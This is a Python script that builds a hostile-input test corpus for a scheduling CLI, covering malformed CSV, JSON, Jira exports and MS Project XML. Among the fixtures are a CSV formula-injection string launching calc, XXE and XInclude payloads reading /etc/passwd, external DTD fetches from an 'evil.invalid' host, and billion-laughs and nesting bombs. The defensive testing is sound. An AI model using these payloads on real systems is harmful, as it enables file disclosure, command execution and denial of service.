"""Write the hostile-input corpus under ``tests/data/bad/`` (issue 9).

Run ``python tests/make_bad_corpus.py`` after changing a case; the files are committed so a
failing case can be opened and replayed by hand (``tpm schedule tests/data/bad/tasks/...``).
Every file is a *bad* input: the CLI must exit 2 with located ``error: FILE...`` lines and no
traceback. Big files (200,000 rows, 1 MB cells, 50 MB uploads) are not committed: the tests
build them in a temporary folder with :func:`big_cases`.

Folders name the input kind; ``tests/test_bad_inputs.py`` maps each kind to a command line:

========== ===========================================================================
tasks      ``tpm schedule FILE``
risks      ``tpm schedule VALID_TASKS --risks FILE``
corr       ``tpm schedule VALID_TASKS --correlations FILE``
holidays   ``tpm schedule VALID_TASKS --holidays FILE``
mspdi      ``tpm schedule FILE`` (MS Project XML)
jira       ``tpm forecast FILE --items 50`` (Jira CSV export)
throughput ``tpm forecast FILE --items 50`` (``date,completed`` table)
bvb        ``tpm build-vs-buy FILE``
capacity   ``tpm capacity FILE``
========== ===========================================================================
"""

from __future__ import annotations

import copy
import io
import json
import random
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[1]
BAD = ROOT / "tests" / "data" / "bad"
SAMPLES = ROOT / "sample_data"
FORMULA = "=cmd|' /C calc'!A0"

TASKS_HEADER = "id,name,low,likely,high,distribution,predecessors"
RISKS_HEADER = "id,name,probability,impact_low,impact_likely,impact_high,impact_unit,tasks"
#: Task ids of ``sample_data/schedule/tasks.csv`` that risk/correlation cases refer to.
GOOD_TASK_IDS = ("KICK", "ARCH", "VEND", "PLAN")


# --- schedule tables ----------------------------------------------------------------------------
def _tasks(*rows: str, header: str = TASKS_HEADER) -> str:
    return "\n".join([header, *rows]) + "\n"


def _chain(n: int, *, cycle: bool) -> str:
    """n tasks T1..Tn chained; with ``cycle`` T1 also depends on Tn (a cycle of length n)."""
    rows = []
    for i in range(1, n + 1):
        pred = f"T{i - 1}" if i > 1 else (f"T{n}" if cycle else "")
        rows.append(f"T{i},Task {i},1,2,3,pert,{pred}")
    return _tasks(*rows)


def task_cases() -> Iterator[tuple[str, str | bytes]]:
    ok = "A,Design,2,3,5,pert,"
    yield "empty.csv", b""
    yield "bom_only.csv", b"\xef\xbb\xbf"
    yield "whitespace_only.csv", "   \n\n  \n"
    yield "header_only.csv", _tasks()
    yield "missing_columns.csv", "id,name\nA,Design\n"
    yield "wrong_headers.csv", "foo,bar,baz\n1,2,3\n"
    yield "truncated_row.csv", _tasks(ok, "B,Build,3,5")
    yield "truncated_quote.csv", _tasks(ok, 'B,"Build the thing,3,5,8,pert,A')
    yield "utf16_le.csv", _tasks(ok, "B,Build,3,5,8,pert,A").encode("utf-16")
    yield "utf16_be.csv", b"\xfe\xff" + _tasks(ok, "B,Build,3,5,8,pert,A").encode("utf-16-be")
    yield "utf16_no_bom.csv", _tasks(ok).encode("utf-16-le")
    yield (
        "latin1_bad_number.csv",
        _tasks("A,Caf\xe9 r\xe9sum\xe9,2,3,x\xe9,pert,").encode("latin-1"),
    )
    yield "binary_junk.csv", random.Random(1).randbytes(4096)
    yield "png_named_csv.csv", b"\x89PNG\r\n\x1a\n" + random.Random(2).randbytes(600)
    yield "fake_xlsx_zip.csv", b"PK\x03\x04" + random.Random(3).randbytes(800)
    yield "nul_bytes.csv", _tasks(ok).encode().replace(b"Design", b"De\x00sign")
    yield "formula_low.csv", _tasks(f'A,Design,"{FORMULA}",3,5,pert,')
    yield "formula_plus.csv", _tasks("A,Design,+1+1,3,5,pert,", "B,Build,@SUM(A1),3,5,pert,")
    yield "nan_low.csv", _tasks("A,Design,nan,3,5,pert,")
    yield "inf_high.csv", _tasks("A,Design,2,3,inf,pert,")
    yield "neg_inf.csv", _tasks("A,Design,-inf,3,5,pert,")
    yield "overflow_1e309.csv", _tasks("A,Design,2,3,1e309,pert,")
    yield "negative_durations.csv", _tasks("A,Design,-5,-3,-1,pert,")
    yield "negative_low.csv", _tasks("A,Design,-1,3,5,pert,")
    yield "zero_width_pert_above_zero.csv", _tasks("A,Design,0,0,-0.5,pert,")
    yield "zero_lognormal.csv", _tasks("A,Milestone,0,0,0,lognormal,")
    yield "zero_low_lognormal.csv", _tasks("A,Design,0,1,2,lognormal,")
    yield (
        "many_columns.csv",
        _tasks(
            "A,x,1,2,oops,pert," + ",".join("c" for _ in range(3000)),
            header=TASKS_HEADER + "," + ",".join(f"extra{i}" for i in range(3000)),
        ),
    )
    yield "low_gt_high.csv", _tasks("A,Design,9,3,5,pert,")
    yield "likely_gt_high.csv", _tasks("A,Design,2,8,5,pert,")
    yield "low_gt_likely.csv", _tasks("A,Design,4,3,5,triangular,")
    yield "text_numbers.csv", _tasks("A,Design,two,three,five,pert,")
    yield "empty_numbers.csv", _tasks("A,Design,,,,pert,")
    yield "unknown_distribution.csv", _tasks("A,Design,2,3,5,gaussianish,")
    yield "self_cycle.csv", _tasks("A,Design,2,3,5,pert,A")
    for n in (2, 3, 5, 10, 25, 50):
        yield f"cycle_{n}.csv", _chain(n, cycle=True)
    yield "cycle_via_ss.csv", _tasks("A,Design,2,3,5,pert,B:SS+1", "B,Build,2,3,5,pert,A:FS")
    yield (
        "two_cycles.csv",
        _tasks("A,a,1,2,3,pert,B", "B,b,1,2,3,pert,A", "C,c,1,2,3,pert,D", "D,d,1,2,3,pert,C"),
    )
    yield "dangling_predecessor.csv", _tasks(ok, "B,Build,3,5,8,pert,NOPE")
    yield "dangling_many.csv", _tasks(ok, "B,Build,3,5,8,pert,X1; X2; A; X3")
    yield "bad_link_type.csv", _tasks(ok, "B,Build,3,5,8,pert,A:XX+1")
    yield "bad_lag.csv", _tasks(ok, "B,Build,3,5,8,pert,A:FS+abc")
    yield "nan_lag.csv", _tasks(ok, "B,Build,3,5,8,pert,A:FS+nan")
    yield "inf_lag.csv", _tasks(ok, "B,Build,3,5,8,pert,A:FS+inf")
    yield "garbage_predecessors.csv", _tasks(ok, "B,Build,3,5,8,pert,;;::++--")
    yield "duplicate_ids.csv", _tasks(ok, "A,Design again,1,2,3,pert,")
    yield "duplicate_ids_case.csv", _tasks(ok, "B,b,1,2,3,pert,", "B,b2,1,2,3,pert,A")
    yield "empty_id.csv", _tasks(ok, ",Nameless,1,2,3,pert,A")
    yield "many_bad_rows.csv", _tasks(*(f"T{i},t,{i},x,{-i},pert,Z{i}" for i in range(300)))
    yield "semicolon_bad.csv", "id;name;low;likely;high\nA;x;1;2;zz\n"
    yield "tab_delimited.csv", "id\tname\tlow\tlikely\thigh\nA\tx\t1\t2\t3\n"
    yield "xml_named_csv.csv", "<Project><Tasks/></Project>\n"
    yield "json_named_csv.csv", '{"tasks": [{"id": "A"}]}\n'


def risk_cases() -> Iterator[tuple[str, str | bytes]]:
    ok = "R0,Fine,0.2,1,2,3,days,KICK"

    def r(*rows: str) -> str:
        return _tasks(*rows, header=RISKS_HEADER)

    yield "empty.csv", b""
    yield "header_only.csv", r()
    yield "missing_columns.csv", "id,probability\nR1,0.5\n"
    yield "prob_above_one.csv", r(ok, "R1,Too likely,1.5,1,2,3,days,ARCH")
    yield "prob_negative.csv", r("R1,Negative,-0.1,1,2,3,days,ARCH")
    yield "prob_percent_over.csv", r("R1,Percent,150%,1,2,3,days,ARCH")
    yield "prob_nan.csv", r("R1,NaN,nan,1,2,3,days,ARCH")
    yield "prob_inf.csv", r("R1,Inf,inf,1,2,3,days,ARCH")
    yield "prob_text.csv", r("R1,Text,likely,1,2,3,days,ARCH")
    yield "impact_low_gt_high.csv", r("R1,Backwards,0.3,9,2,3,days,ARCH")
    yield "impact_negative_percent.csv", r("R1,Neg,0.3,-300,-200,-150,percent,ARCH")
    yield "impact_inf.csv", r("R1,Inf,0.3,1,2,inf,days,ARCH")
    yield "impact_unit_unknown.csv", r("R1,Unit,0.3,1,2,3,weeks,ARCH")
    yield "unknown_task.csv", r("R1,Ghost,0.3,1,2,3,days,GHOST")
    yield "no_tasks.csv", r("R1,Nobody,0.3,1,2,3,days,")
    yield "duplicate_ids.csv", r(ok, "R0,Again,0.2,1,2,3,days,ARCH")
    yield "formula_probability.csv", r(f'R1,F,"{FORMULA}",1,2,3,days,ARCH')
    yield "utf16.csv", r(ok, "R1,x,2,1,2,3,days,ARCH").encode("utf-16")
    yield "binary_junk.csv", random.Random(4).randbytes(2048)
    yield "truncated_quote.csv", r(ok, 'R1,"Unclosed,0.2,1,2,3,days,ARCH')


def corr_cases() -> Iterator[tuple[str, str | bytes]]:
    h = "task_a,task_b,rho"
    yield "empty.csv", b""
    yield "header_only.csv", h + "\n"
    yield "missing_columns.csv", "task_a,rho\nKICK,0.5\n"
    yield "rho_above_one.csv", f"{h}\nARCH,VEND,1.5\n"
    yield "rho_below_minus_one.csv", f"{h}\nARCH,VEND,-2\n"
    yield "rho_nan.csv", f"{h}\nARCH,VEND,nan\n"
    yield "rho_inf.csv", f"{h}\nARCH,VEND,inf\n"
    yield "rho_text.csv", f"{h}\nARCH,VEND,strong\n"
    yield "same_task.csv", f"{h}\nARCH,ARCH,0.5\n"
    yield "unknown_task.csv", f"{h}\nARCH,GHOST,0.5\n"
    yield "duplicate_pair.csv", f"{h}\nARCH,VEND,0.5\nVEND,ARCH,0.3\n"
    yield "formula_rho.csv", f'{h}\nARCH,VEND,"{FORMULA}"\n'
    yield "utf16.csv", f"{h}\nARCH,VEND,0.5\n".encode("utf-16")
    yield "binary_junk.csv", random.Random(5).randbytes(1500)


def holiday_cases() -> Iterator[tuple[str, str | bytes]]:
    yield "empty.csv", b""
    yield "header_only.csv", "date,name\n"
    yield "no_date_column.csv", "day,name\n2027-01-01,x\n"
    yield "impossible_date.csv", "date,name\n2027-13-45,x\n"
    yield "words_date.csv", "date,name\ntomorrow,x\n"
    yield "feb_30.csv", "date,name\n2027-02-30,x\n"
    yield "formula_date.csv", f'date,name\n"{FORMULA}",x\n'
    yield "number_date.csv", "date,name\n12345678,x\n"
    yield "utf16.csv", "date,name\n2027-01-01,x\n".encode("utf-16")
    yield "binary_junk.csv", random.Random(6).randbytes(1000)


# --- MS Project XML ------------------------------------------------------------------------------
NS = "http://schemas.microsoft.com/project"


def _task_xml(
    uid: int, duration: str = "PT16H0M0S", preds: tuple[int, ...] = (), **extra: str
) -> str:
    links = "".join(
        f"<PredecessorLink><PredecessorUID>{p}</PredecessorUID><Type>1</Type></PredecessorLink>"
        for p in preds
    )
    more = "".join(f"<{k}>{v}</{k}>" for k, v in extra.items())
    return (
        f"<Task><UID>{uid}</UID><ID>{uid}</ID><Name>Task {uid}</Name>"
        f"<Duration>{duration}</Duration><OutlineLevel>1</OutlineLevel>{more}{links}</Task>"
    )


def _project(*tasks: str, head: str = "", ns: str = NS) -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{head}\n<Project xmlns="{ns}">'
        f"<StartDate>2027-01-04T08:00:00</StartDate><Tasks>{''.join(tasks)}</Tasks></Project>\n"
    )


def mspdi_cases() -> Iterator[tuple[str, str | bytes]]:
    good = _project(_task_xml(1), _task_xml(2, preds=(1,)))
    laughs = "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    yield (
        "billion_laughs.xml",
        (
            f'<?xml version="1.0"?><!DOCTYPE Project [<!ENTITY lol0 "lol">{laughs}]>'
            f'<Project xmlns="{NS}"><Name>&lol9;</Name></Project>'
        ),
    )
    yield (
        "quadratic_blowup.xml",
        (
            f'<?xml version="1.0"?><!DOCTYPE Project [<!ENTITY a "{"x" * 5000}">]>'
            f'<Project xmlns="{NS}"><Name>{"&a;" * 2000}</Name></Project>'
        ),
    )
    yield (
        "xxe_passwd.xml",
        (
            '<?xml version="1.0"?><!DOCTYPE Project [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
            f'<Project xmlns="{NS}"><Tasks><Task><UID>1</UID><Name>&xxe;</Name>'
            "<Duration>PT8H0M0S</Duration></Task></Tasks></Project>"
        ),
    )
    yield (
        "xxe_parameter_entity.xml",
        (
            '<?xml version="1.0"?><!DOCTYPE Project [<!ENTITY % p SYSTEM "http://evil.invalid/x.dtd">'
            f'%p;]><Project xmlns="{NS}"/>'
        ),
    )
    yield (
        "external_dtd.xml",
        (
            '<?xml version="1.0"?><!DOCTYPE Project SYSTEM "http://evil.invalid/project.dtd">'
            f'<Project xmlns="{NS}"/>'
        ),
    )
    yield "plain_dtd.xml", f'<?xml version="1.0"?><!DOCTYPE Project><Project xmlns="{NS}"/>'
    yield (
        "xinclude.xml",
        (
            f'<?xml version="1.0"?><Project xmlns="{NS}" xmlns:xi="http://www.w3.org/2001/XInclude">'
            '<xi:include href="file:///etc/passwd" parse="text"/></Project>'
        ),
    )
    yield "truncated.xml", good[: len(good) // 2]
    yield "empty.xml", b""
    yield "not_xml.xml", "this is not xml at all, just words\n"
    yield "binary_junk.xml", random.Random(7).randbytes(3000)
    yield "wrong_root.xml", '<?xml version="1.0"?><Workbook><Tasks/></Workbook>'
    yield "no_tasks.xml", f'<?xml version="1.0"?><Project xmlns="{NS}"><Tasks/></Project>'
    yield "bad_duration.xml", _project(_task_xml(1, "PTxyz"), _task_xml(2, "banana"))
    yield "negative_duration.xml", _project(_task_xml(1, "-PT16H0M0S"))
    yield "self_cycle.xml", _project(_task_xml(1, preds=(1,)))
    yield "cycle_2.xml", _project(_task_xml(1, preds=(2,)), _task_xml(2, preds=(1,)))
    yield (
        "cycle_50.xml",
        _project(*(_task_xml(i, preds=(50 if i == 1 else i - 1,)) for i in range(1, 51))),
    )
    yield (
        "nan_lag.xml",
        _project(
            _task_xml(1),
            "<Task><UID>2</UID><ID>2</ID><Name>B</Name><Duration>PT8H0M0S</Duration><PredecessorLink>"
            "<PredecessorUID>1</PredecessorUID><Type>1</Type><LinkLag>NaN</LinkLag></PredecessorLink>"
            "</Task>",
        ),
    )
    yield "unknown_encoding.xml", '<?xml version="1.0" encoding="klingon"?><Project/>'
    yield "utf16_declared_utf8.xml", good.encode("utf-16")
    yield "deep_nesting.xml", "<a>" * 5_000 + "</a>" * 5_000


# --- throughput history ---------------------------------------------------------------------------
JIRA_HEADER = "Issue key,Issue Type,Status,Created,Resolved"


def jira_cases() -> Iterator[tuple[str, str | bytes]]:
    def j(*rows: str, header: str = JIRA_HEADER) -> str:
        return "\n".join([header, *rows]) + "\n"

    ok = "HAL-1,Story,Done,01/Nov/26 9:00 AM,03/Nov/26 5:00 PM"
    yield "empty.csv", b""
    yield "header_only.csv", j()
    yield "missing_resolved.csv", j("HAL-1,Story,Done,01/Nov/26 9:00 AM", header=JIRA_HEADER[:-9])
    yield "bad_created_dates.csv", j("HAL-1,Story,Done,yesterday,03/Nov/26 5:00 PM", ok)
    yield "bad_resolved_dates.csv", j(ok, "HAL-2,Story,Done,01/Nov/26 9:00 AM,31/Feb/26 1:00 PM")
    yield "nothing_resolved.csv", j("HAL-1,Story,To Do,01/Nov/26 9:00 AM,")
    yield "formula_dates.csv", j(f'HAL-1,Story,Done,"{FORMULA}","{FORMULA}"')
    yield "utf16.csv", j(ok).encode("utf-16")
    yield "binary_junk.csv", random.Random(8).randbytes(5000)
    yield "truncated_quote.csv", j(ok, 'HAL-2,"Story,Done,01/Nov/26 9:00 AM,03/Nov/26 5:00 PM')
    yield "duplicate_keys.csv", j(ok, ok)
    yield "empty_key.csv", j(ok, ",Story,Done,01/Nov/26 9:00 AM,03/Nov/26 5:00 PM")
    yield "excel_workbook.csv", b"PK\x03\x04" + random.Random(11).randbytes(300)
    yield "mixed_date_formats.csv", j(ok, "HAL-2,Story,Done,2026-13-01,2026-13-05")


def throughput_cases() -> Iterator[tuple[str, str | bytes]]:
    h = "date,completed"
    yield "empty.csv", b""
    yield "header_only.csv", h + "\n"
    yield "negative.csv", f"{h}\n2026-05-19,2\n2026-05-20,-3\n"
    yield "fraction.csv", f"{h}\n2026-05-19,2.5\n"
    yield "nan.csv", f"{h}\n2026-05-19,nan\n"
    yield "inf.csv", f"{h}\n2026-05-19,inf\n"
    yield "huge_count.csv", f"{h}\n2026-05-19,1e30\n"
    yield "text_count.csv", f"{h}\n2026-05-19,many\n"
    yield "bad_date.csv", f"{h}\n2026-02-30,2\n"
    yield "word_date.csv", f"{h}\nlast tuesday,2\n"
    yield "formula.csv", f'{h}\n2026-05-19,"{FORMULA}"\n'
    yield "all_zero.csv", f"{h}\n2026-05-19,0\n2026-05-20,0\n2026-05-21,0\n"
    yield "utf16.csv", f"{h}\n2026-05-19,2\n".encode("utf-16")
    yield "binary_junk.csv", random.Random(9).randbytes(700)


# --- scenario JSON ---------------------------------------------------------------------------
def _load(path: Path) -> dict[str, Any]:
    data: dict[str, Any] = json.loads(path.read_text(encoding="utf-8"))
    return data


def _json_cases(
    base: dict[str, Any], mutations: dict[str, Callable[[dict[str, Any]], Any]]
) -> Iterator[tuple[str, str | bytes]]:
    text = json.dumps(base, indent=1)
    yield "empty.json", b""
    yield "truncated.json", text[: len(text) // 2]
    yield "not_json.json", "schema_version: 1\nthis is yaml-ish\n"
    yield "top_level_array.json", "[1, 2, 3]\n"
    yield "top_level_string.json", '"scenario"\n'
    yield "null.json", "null\n"
    yield "empty_object.json", "{}\n"
    yield "utf16.json", text.encode("utf-16")
    yield "latin1.json", text.replace('"schema_version"', '"sch\xe9ma_version"').encode("latin-1")
    yield "binary_junk.json", random.Random(10).randbytes(2000)
    yield "deeply_nested_arrays.json", "[" * 5_000 + "]" * 5_000
    yield "deeply_nested_objects.json", '{"a":' * 5_000 + "1" + "}" * 5_000
    yield (
        "deep_value.json",
        text.replace('"schema_version": 1', '"schema_version": ' + "[" * 5000 + "]" * 5000),
    )
    yield "nan_literal.json", text.replace('"schema_version": 1', '"schema_version": NaN')
    for name, mutate in mutations.items():
        doc = copy.deepcopy(base)
        result = mutate(doc)
        payload = doc if result is None else result
        yield f"{name}.json", payload if isinstance(payload, str) else json.dumps(payload, indent=1)


def _set(path: str, value: Any) -> Callable[[dict[str, Any]], None]:
    def mutate(doc: dict[str, Any]) -> None:
        obj: Any = doc
        keys = path.split(".")
        for k in keys[:-1]:
            obj = obj[int(k)] if isinstance(obj, list) else obj[k]
        last = keys[-1]
        if isinstance(obj, list):
            obj[int(last)] = value
        else:
            obj[last] = value

    return mutate


def _del(key: str) -> Callable[[dict[str, Any]], None]:
    return lambda doc: doc.pop(key) and None


def bvb_cases() -> Iterator[tuple[str, str | bytes]]:
    base = _load(SAMPLES / "build_vs_buy" / "observability_platform.json")
    mutations: dict[str, Callable[[dict[str, Any]], Any]] = {
        "schema_version_99": _set("schema_version", 99),
        "schema_version_string": _set("schema_version", "one"),
        "schema_version_missing": _del("schema_version"),
        "horizon_string": _set("horizon", "three"),
        "horizon_negative": _set("horizon", -3),
        "horizon_huge": _set("horizon", 10**9),
        "horizon_float": _set("horizon", 2.5),
        "horizon_bool": _set("horizon", True),
        "period_unknown": _set("period", "fortnight"),
        "discount_nan_string": _set("discount_rate", "NaN"),
        "discount_minus_two": _set("discount_rate", -2),
        "discount_huge": _set("discount_rate", 1e308),
        "options_empty": _set("options", []),
        "options_not_list": _set("options", {"name": "x"}),
        "option_kind_unknown": _set("options.0.kind", "steal"),
        "option_name_number": _set("options.0.name", 12345),
        "option_duplicate_names": lambda d: d["options"].append(copy.deepcopy(d["options"][0])),
        "lines_wrong_type": _set("options.0.lines", "lots"),
        "line_amount_low_gt_high": _set(
            "options.0.lines.0.amount", {"low": 9, "likely": 5, "high": 1, "distribution": "pert"}
        ),
        "line_amount_string": _set("options.0.lines.0.amount", "a lot"),
        "line_amount_overflow": lambda d: json.dumps(d).replace(
            '"amount": ', '"amount": 1e999, "x_": ', 1
        ),
        "unknown_top_key": _set("extra_field_from_the_future", {"x": 1}),
        "seats_negative": _set("seats", {"initial": -5, "growth": 0.1}),
        "seats_wrong_type": _set("seats", "two hundred"),
    }
    yield from _json_cases(base, mutations)


def capacity_cases() -> Iterator[tuple[str, str | bytes]]:
    base = _load(SAMPLES / "capacity" / "engineering_org.json")
    mutations: dict[str, Callable[[dict[str, Any]], Any]] = {
        "schema_version_99": _set("schema_version", 99),
        "months_zero": _set("months", 0),
        "months_huge": _set("months", 10**7),
        "months_string": _set("months", "two years"),
        "start_month_bad_format": _set("start_month", "01/2027"),
        "start_month_13": _set("start_month", "2027-13"),
        "attrition_above_one": _set("attrition_annual", 1.5),
        "attrition_negative": _set("attrition_annual", -0.1),
        "focus_above_one": _set("focus_factor", 3),
        "roles_empty": _set("roles", []),
        "roles_wrong_type": _set("roles", "Backend"),
        "headcount_negative": _set("roles.0.headcount", -4),
        "headcount_huge": _set("roles.0.headcount", 10**12),
        "fte_string": _set("roles.0.fte", "full"),
        "hire_unknown_role": _set("hires.0.role", "Astronaut"),
        "hire_month_bad": _set("hires.0.target_month", "2027-04-31"),
        "hire_count_negative": _set("hires.0.count", -2),
        "lag_low_gt_high": _set("backfill.lag_months", {"low": 9, "likely": 3, "high": 1}),
        "ramp_curve_unknown": _set("ramp_curve", "exponential"),
        "unknown_top_key": _set("extra_field_from_the_future", True),
        "demand_wrong_type": _set("demand", {"Backend": 3}),
    }
    yield from _json_cases(base, mutations)


KINDS: dict[str, Callable[[], Iterator[tuple[str, str | bytes]]]] = {
    "tasks": task_cases,
    "risks": risk_cases,
    "corr": corr_cases,
    "holidays": holiday_cases,
    "mspdi": mspdi_cases,
    "jira": jira_cases,
    "throughput": throughput_cases,
    "bvb": bvb_cases,
    "capacity": capacity_cases,
}

#: CSV cases also committed as .xlsx (same content in the first sheet) — Excel path coverage.
XLSX_FROM = {
    "tasks": (
        "low_gt_high.csv",
        "formula_low.csv",
        "cycle_3.csv",
        "dangling_predecessor.csv",
        "duplicate_ids.csv",
        "nan_low.csv",
        "negative_durations.csv",
        "missing_columns.csv",
        "header_only.csv",
    ),
    "risks": ("prob_above_one.csv", "unknown_task.csv", "impact_low_gt_high.csv"),
    "corr": ("rho_above_one.csv", "same_task.csv"),
    "holidays": ("impossible_date.csv", "words_date.csv"),
}


def csv_to_xlsx(text: str) -> bytes:
    """The CSV text as the first sheet of a workbook (cells as text, like a careless paste)."""
    import csv

    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    for row in csv.reader(io.StringIO(text)):
        ws.append(row)
    return _deterministic_xlsx(wb)


def _deterministic_xlsx(wb: Any) -> bytes:
    """The workbook's bytes with fixed timestamps (openpyxl stamps "now" on every save)."""
    import re
    import zipfile

    raw = io.BytesIO()
    wb.save(raw)
    out = io.BytesIO()
    with zipfile.ZipFile(raw) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == "docProps/core.xml":
                data = re.sub(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", b"2027-01-04T00:00:00Z", data)
            dst.writestr(zipfile.ZipInfo(info.filename, date_time=(2027, 1, 4, 0, 0, 0)), data)
    return out.getvalue()


def xlsx_extra_cases() -> Iterator[tuple[str, str, bytes]]:
    """(kind, file name, bytes) of Excel-only trouble: corrupt zips, empty sheets."""
    import openpyxl

    empty = _deterministic_xlsx(openpyxl.Workbook())
    yield "tasks", "empty_sheet.xlsx", empty
    yield "tasks", "truncated_zip.xlsx", csv_to_xlsx(_tasks("A,x,1,2,3,pert,"))[:700]
    yield "risks", "empty_sheet.xlsx", empty
    yield "corr", "empty_sheet.xlsx", empty
    yield "holidays", "empty_sheet.xlsx", empty


def write_corpus(root: Path = BAD) -> int:
    """(Re)write every corpus file under ``root``; returns how many were written."""
    n = 0
    for kind, cases in KINDS.items():
        folder = root / kind
        folder.mkdir(parents=True, exist_ok=True)
        for old in folder.iterdir():
            old.unlink()
        texts: dict[str, str] = {}
        for name, content in cases():
            data = content.encode("utf-8") if isinstance(content, str) else content
            if isinstance(content, str):
                texts[name] = content
            (folder / name).write_bytes(data)
            n += 1
        for name in XLSX_FROM.get(kind, ()):
            (folder / name.replace(".csv", ".xlsx")).write_bytes(csv_to_xlsx(texts[name]))
            n += 1
    for kind, name, data in xlsx_extra_cases():
        (root / kind / name).write_bytes(data)
        n += 1
    return n


# --- generated at test time (too big to commit) ---------------------------------------------
def big_cases(tmp: Path, valid_tasks: Path) -> list[tuple[str, list[str]]]:
    """Write the big hostile files into ``tmp``; returns ``(case id, tpm argv)`` pairs."""
    cases: list[tuple[str, list[str]]] = []

    def put(name: str, data: bytes) -> Path:
        path = tmp / name
        path.write_bytes(data)
        return path

    rows = "\n".join(
        f"T{i},Task {i},1,2,3,pert,T{i - 1}" if i else "T0,t,1,2,3,pert," for i in range(200_000)
    )
    p = put("tasks_200k_rows.csv", (_tasks() + rows + "\n").encode())
    cases.append(("tasks_200k_rows", ["schedule", str(p)]))
    rows = "\n".join(f"R{i},r,0.1,1,2,3,days,NOPE{i % 7}" for i in range(200_000))
    p = put("risks_200k_rows.csv", (_tasks(header=RISKS_HEADER) + rows + "\n").encode())
    cases.append(("risks_200k_rows", ["schedule", str(valid_tasks), "--risks", str(p)]))
    rows = "\n".join(f"HAL-{i},Story,Done,01/Nov/26 9:00 AM,not a date" for i in range(200_000))
    p = put("jira_200k_rows.csv", (JIRA_HEADER + "\n" + rows + "\n").encode())
    cases.append(("jira_200k_rows", ["forecast", str(p), "--items", "50"]))
    rows = "\n".join(f"2026-05-{1 + i % 28:02d},{-1 - i % 3}" for i in range(200_000))
    p = put("throughput_200k_rows.csv", ("date,completed\n" + rows + "\n").encode())
    cases.append(("throughput_200k_rows", ["forecast", str(p), "--items", "50"]))
    p = put(
        "tasks_1mb_number_cell.csv", _tasks("A,Design," + "9" * 1_000_000 + ",3,5,pert,").encode()
    )
    cases.append(("tasks_1mb_number_cell", ["schedule", str(p)]))
    p = put(
        "tasks_1mb_predecessor_cell.csv",
        _tasks("A,x,1,2,3,pert,", "B,y,1,2,3,pert," + "A;" * 500_000).encode(),
    )
    cases.append(("tasks_1mb_predecessor_cell", ["schedule", str(p)]))
    p = put(
        "tasks_1mb_id_cell.csv",
        _tasks("A" * 1_000_000 + ",x,1,2,3,pert,", "B,y,3,2,1,pert,").encode(),
    )
    cases.append(("tasks_1mb_id_cell", ["schedule", str(p)]))
    p = put(
        "tasks_1mb_quoted_cell.csv", _tasks('A,"' + "x\n" * 500_000 + '",1,2,nope,pert,').encode()
    )
    cases.append(("tasks_1mb_quoted_cell", ["schedule", str(p)]))
    p = put("tasks_60mb.csv", _tasks().encode() + b"A,x,1,2,3,pert,\n" * 4_000_000)
    cases.append(("tasks_60mb_upload", ["schedule", str(p)]))
    chain = _project(*(_task_xml(i, preds=((5000 if i == 1 else i - 1),)) for i in range(1, 5001)))
    p = put("mspdi_cycle_5000.xml", chain.encode())
    cases.append(("mspdi_cycle_5000", ["schedule", str(p)]))
    p = put(
        "bvb_1mb_name.json",
        json.dumps({"schema_version": 1, "name": "x" * 1_000_000, "options": 5}).encode(),
    )
    cases.append(("bvb_1mb_name_wrong_types", ["build-vs-buy", str(p)]))
    base = _load(SAMPLES / "capacity" / "engineering_org.json")
    base["roles"] = [{"role": f"R{i}", "headcount": -1, "fte": 1.0} for i in range(100_000)]
    p = put("capacity_100k_roles.json", json.dumps(base).encode())
    cases.append(("capacity_100k_bad_roles", ["capacity", str(p)]))
    return cases


if __name__ == "__main__":
    print(f"wrote {write_corpus()} files under {BAD.relative_to(ROOT)}")
